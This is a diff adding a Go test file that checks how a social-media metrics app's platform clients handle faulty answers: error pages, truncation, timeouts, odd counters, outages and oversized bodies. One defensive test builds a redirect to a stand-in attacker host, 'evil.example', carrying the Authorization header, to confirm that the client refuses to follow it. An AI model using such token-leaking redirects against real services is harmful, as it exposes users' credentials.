@@ -1,0 +1,269 @@
+package platforms_test
+
+import (
+	"context"
+	"net/http"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/require"
+
+	"github.com/ledgerboard/ledgerboard/domain"
+	"github.com/ledgerboard/ledgerboard/internal/platforms"
+	"github.com/ledgerboard/ledgerboard/internal/simulator"
+)
+
+// subject is one handler of the fault tests (PLATFORMS §6.6: what every platform may do).
+type subject struct {
+	platform domain.Platform
+	add      func(*bundle, simulator.Traps) simulator.Account
+	kind     domain.AccountType
+	lists    bool // whether posts can be listed
+}
+
+func subjects() map[string]subject {
+	return map[string]subject{
+		"facebook":  {platform: domain.Facebook, add: addPage, lists: true},
+		"instagram": {platform: domain.Instagram, add: addInstagram, lists: true},
+		"tiktok":    {platform: domain.TikTok, add: addTikTok, lists: true},
+	}
+}
+
+// eachSubject runs a test for every handler.
+func eachSubject(t *testing.T, test func(t *testing.T, b *bundle, s subject, c platforms.Client, at platforms.Target, set func(simulator.Traps)),
+	change ...func(*simulator.Config, *platforms.Config),
+) {
+	t.Helper()
+	for name, s := range subjects() {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			b := setup(t, change...)
+			account := s.add(b, simulator.Traps{})
+			at := target(account)
+			at.AccountType = s.kind
+			test(t, b, s, b.client(t, s.platform), at, func(traps simulator.Traps) { b.sim.SetTraps(s.platform, account.ID, traps) })
+		})
+	}
+}
+
+// somePosts are up to 12 posts of the account.
+func somePosts(b *bundle, s subject, at platforms.Target) []platforms.Post {
+	var out []platforms.Post
+	for _, p := range b.sim.Posts(s.platform, at.ExternalID, b.clock()) {
+		if len(out) < 12 && p.Kind != simulator.KindStory { // stories have no likes to look at
+			out = append(out, platforms.Post{ID: p.ID, PublishedAt: p.Created})
+		}
+	}
+	return out
+}
+
+func TestFaultHTML(t *testing.T) {
+	t.Parallel()
+	eachSubject(t, func(t *testing.T, b *bundle, s subject, c platforms.Client, at platforms.Target, set func(simulator.Traps)) {
+		for _, status := range []int{500, 502, 503, 401, 403, 200, 301} {
+			set(simulator.Traps{HTML: status})
+			_, err := c.Account(t.Context(), at, platforms.AccountRequest{})
+			requireClass(t, platforms.ClassRetry, err)
+			_, err = c.PostMetrics(t.Context(), at, somePosts(b, s, at))
+			requireClass(t, platforms.ClassRetry, err)
+		}
+		set(simulator.Traps{HTML: 429})
+		_, err := c.Account(t.Context(), at, platforms.AccountRequest{})
+		require.Positive(t, requireClass(t, platforms.ClassThrottled, err).RetryAfter)
+	})
+}
+
+func TestFaultTruncated(t *testing.T) {
+	t.Parallel()
+	eachSubject(t, func(t *testing.T, b *bundle, s subject, c platforms.Client, at platforms.Target, set func(simulator.Traps)) {
+		set(simulator.Traps{Truncate: true})
+		_, err := c.Account(t.Context(), at, platforms.AccountRequest{})
+		requireClass(t, platforms.ClassRetry, err)
+		snaps, err := c.PostMetrics(t.Context(), at, somePosts(b, s, at))
+		requireClass(t, platforms.ClassRetry, err)
+		require.Empty(t, snaps)
+	})
+}
+
+func TestFaultSlow(t *testing.T) {
+	t.Parallel()
+	eachSubject(t, func(t *testing.T, b *bundle, _ subject, c platforms.Client, at platforms.Target, set func(simulator.Traps)) {
+		set(simulator.Traps{Delay: time.Hour})
+		_, err := c.Account(t.Context(), at, platforms.AccountRequest{})
+		require.Equal(t, "timeout", requireClass(t, platforms.ClassRetry, err).Code)
+		require.NoError(t, context.Cause(t.Context()))
+
+		ctx, cancel := context.WithCancel(t.Context())
+		cancel()
+		_, err = c.Account(ctx, at, platforms.AccountRequest{})
+		require.ErrorIs(t, err, context.Canceled)
+	}, func(_ *simulator.Config, c *platforms.Config) { c.Timeout = 50 * time.Millisecond })
+}
+
+func TestFaultRepeatedItems(t *testing.T) {
+	t.Parallel()
+	eachSubject(t, func(t *testing.T, b *bundle, s subject, c platforms.Client, at platforms.Target, set func(simulator.Traps)) {
+		if !s.lists {
+			t.Skip("this handler lists no posts")
+		}
+		clean, _ := allPosts(t, c, at)
+		set(simulator.Traps{RepeatItems: true})
+		repeated, _ := allPosts(t, c, at)
+		require.Greater(t, len(repeated), len(clean))
+		require.Equal(t, byPostID(clean), byPostID(repeated), "the same posts, whatever the seams")
+	})
+}
+
+func TestFaultFallingCounters(t *testing.T) {
+	t.Parallel()
+	eachSubject(t, func(t *testing.T, b *bundle, s subject, c platforms.Client, at platforms.Target, set func(simulator.Traps)) {
+		set(simulator.Traps{Falling: true})
+		posts := somePosts(b, s, at)
+		before, err := c.PostMetrics(t.Context(), at, posts)
+		require.NoError(t, err)
+		b.advance(time.Hour)
+		after, err := c.PostMetrics(t.Context(), at, posts)
+		require.NoError(t, err)
+		fell := 0
+		for id, s := range byID(after) {
+			if *s.Counts.Likes < *byID(before)[id].Counts.Likes {
+				fell++
+			}
+		}
+		require.Positive(t, fell, "a falling count is passed on as it is")
+	})
+}
+
+func TestFaultHugeNumbers(t *testing.T) {
+	t.Parallel()
+	eachSubject(t, func(t *testing.T, b *bundle, s subject, c platforms.Client, at platforms.Target, set func(simulator.Traps)) {
+		posts := somePosts(b, s, at)
+		before, err := c.PostMetrics(t.Context(), at, posts)
+		require.NoError(t, err)
+		set(simulator.Traps{Huge: true})
+		after, err := c.PostMetrics(t.Context(), at, posts)
+		require.NoError(t, err)
+		for id, s := range byID(after) {
+			require.Equal(t, *byID(before)[id].Counts.Likes+5<<32, *s.Counts.Likes)
+		}
+		snap, err := c.Account(t.Context(), at, platforms.AccountRequest{})
+		require.NoError(t, err)
+		require.Greater(t, snap.Figures[0].Value, int64(1)<<33)
+	})
+}
+
+// Absent stays absent: nothing is 0 that was not given.
+func TestFaultNoCounts(t *testing.T) {
+	t.Parallel()
+	eachSubject(t, func(t *testing.T, b *bundle, s subject, c platforms.Client, at platforms.Target, set func(simulator.Traps)) {
+		set(simulator.Traps{NoCounts: true})
+		snap, err := c.Account(t.Context(), at, platforms.AccountRequest{})
+		require.NoError(t, err)
+		require.False(t, hasFigure(snap, "followers"))
+		require.Equal(t, "empty", reasons(snap.Missing)["followers"])
+		snaps, err := c.PostMetrics(t.Context(), at, somePosts(b, s, at))
+		require.NoError(t, err)
+		for _, p := range snaps {
+			require.Nil(t, p.Counts.Views)
+			if s.platform != domain.LinkedIn {
+				require.Equal(t, "empty", reasons(p.Missing)["views"])
+			}
+		}
+	})
+}
+
+func TestFaultAnswerAboutAnotherAccount(t *testing.T) {
+	t.Parallel()
+	eachSubject(t, func(t *testing.T, _ *bundle, _ subject, c platforms.Client, at platforms.Target, set func(simulator.Traps)) {
+		set(simulator.Traps{OtherAccount: true})
+		snap, err := c.Account(t.Context(), at, platforms.AccountRequest{})
+		require.Equal(t, "wrong_account", requireClass(t, platforms.ClassReconnect, err).Code)
+		require.Empty(t, snap.Figures)
+	})
+}
+
+// Some calls of many fail: each failure is one error of the class retry, the rest is untouched.
+func TestFaultSomeCallsFail(t *testing.T) {
+	t.Parallel()
+	eachSubject(t, func(t *testing.T, _ *bundle, _ subject, c platforms.Client, at platforms.Target, set func(simulator.Traps)) {
+		set(simulator.Traps{FailEvery: 7})
+		good, failed := 0, 0
+		for range 40 {
+			snap, err := c.Account(t.Context(), at, platforms.AccountRequest{})
+			switch {
+			case err != nil:
+				requireClass(t, platforms.ClassRetry, err)
+				failed++
+			case snap.Incomplete != nil:
+				require.Equal(t, platforms.ClassRetry, snap.Incomplete.Class)
+				require.True(t, hasFigure(snap, "followers"))
+				failed++
+			default:
+				good++
+			}
+		}
+		require.Positive(t, good)
+		require.Positive(t, failed)
+	})
+}
+
+func TestFaultOutage(t *testing.T) {
+	t.Parallel()
+	eachSubject(t, func(t *testing.T, b *bundle, s subject, c platforms.Client, at platforms.Target, _ func(simulator.Traps)) {
+		b.sim.SetOutages(simulator.Outage{Platform: s.platform, From: testNow, Until: testNow.Add(time.Hour)})
+		_, err := c.Account(t.Context(), at, platforms.AccountRequest{})
+		require.Equal(t, 503, requireClass(t, platforms.ClassRetry, err).Status)
+		b.advance(time.Hour)
+		_, err = c.Account(t.Context(), at, platforms.AccountRequest{})
+		require.NoError(t, err)
+	})
+}
+
+// A body beyond the cap is never read to its end.
+func TestBodyCap(t *testing.T) {
+	t.Parallel()
+	for _, p := range domain.Platforms() {
+		b := canned(t, func(w http.ResponseWriter, _ *http.Request) {
+			_, _ = w.Write([]byte(`{"id":"`))
+			chunk := make([]byte, 64<<10)
+			for i := range chunk {
+				chunk[i] = 'x'
+			}
+			for range 1000 {
+				if _, err := w.Write(chunk); err != nil {
+					return
+				}
+			}
+		}, func(c *platforms.Config) { c.MaxBodyBytes = 100_000 })
+		c, err := b.set.For(p)
+		if err != nil {
+			continue
+		}
+		_, err = c.Account(t.Context(), platforms.Target{AccessToken: "Tok3n", ExternalID: "1", AccountType: domain.LinkedInCompanyPage}, platforms.AccountRequest{})
+		require.Equal(t, "body_too_large", requireClass(t, platforms.ClassRetry, err).Code)
+	}
+}
+
+// A redirect is no answer: following it would carry our request to a host nobody configured.
+func TestRedirectsAreNotFollowed(t *testing.T) {
+	t.Parallel()
+	calls := 0
+	b := canned(t, func(w http.ResponseWriter, r *http.Request) {
+		calls++
+		http.Redirect(w, r, "http://evil.example/?"+r.Header.Get("Authorization"), http.StatusFound)
+	})
+	_, err := b.client(t, domain.Facebook).Account(t.Context(), platforms.Target{AccessToken: "Tok3n", ExternalID: "1"}, platforms.AccountRequest{})
+	requireClass(t, platforms.ClassRetry, err)
+	require.Equal(t, 1, calls)
+}
+
+func TestConnectionRefused(t *testing.T) {
+	t.Parallel()
+	b := canned(t, func(http.ResponseWriter, *http.Request) {}, func(c *platforms.Config) {
+		c.Facebook.BaseURL = "http://127.0.0.1:1"
+	})
+	_, err := b.client(t, domain.Facebook).Account(t.Context(), platforms.Target{AccessToken: "Tok3n", ExternalID: "1"}, platforms.AccountRequest{})
+	e := requireClass(t, platforms.ClassRetry, err)
+	require.Equal(t, "network", e.Code)
+	require.NotContains(t, e.Error(), "127.0.0.1", "no address in an error")
+}
